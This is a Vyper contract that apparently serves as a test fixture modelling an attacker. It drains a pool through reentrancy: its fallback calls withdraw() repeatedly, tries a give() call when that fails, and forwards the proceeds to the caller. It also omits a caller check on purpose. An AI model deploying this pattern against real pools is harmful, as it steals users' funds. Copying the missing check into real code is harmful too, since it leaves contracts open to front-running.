# pragma version 0.4.3
# pragma evm-version cancun
"""
@title A contract that takes what it is owed again while it is being paid
@notice Models the contracts of such thieves: paid by a pool, it withdraws again as long as there is enough; where
    that fails, it tries to give away what it is just being paid. In the end everything goes to whoever called.
    Omits a check of who calls, so that somebody else might run ahead of the thief.
@dev Storage: pool; thief; stake. Hot: nothing; it is used once.
"""

interface Pool:
    def deposit(): payable
    def withdraw(): nonpayable

pool: public(address)
thief: public(address)
stake: public(uint256)


@deploy
def __init__(pool: address):
    self.pool = pool


@external
@payable
def drain():
    self.thief = msg.sender
    self.stake = msg.value
    extcall Pool(self.pool).deposit(value=msg.value)
    extcall Pool(self.pool).withdraw()
    raw_call(msg.sender, b"", value=self.balance)


@external
@payable
def __default__():
    if msg.value == 0 or self.pool.balance < self.stake:
        return
    paid: bool = raw_call(self.pool, method_id("withdraw()"), revert_on_failure=False)
    if not paid:
        give: Bytes[68] = abi_encode(self.thief, self.stake, method_id=method_id("give(address,uint256)"))
        paid = raw_call(self.pool, give, revert_on_failure=False)
